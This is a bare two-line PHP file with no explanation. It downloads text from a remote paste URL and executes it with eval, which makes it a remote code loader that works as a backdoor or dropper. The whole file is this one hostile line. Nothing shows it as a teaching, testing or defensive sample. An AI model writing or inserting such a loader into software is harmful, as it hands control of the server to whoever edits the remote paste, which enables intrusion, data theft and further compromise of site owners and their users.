<?php
eval('?>' . file_get_contents('https://paste.example/raw/abc'));
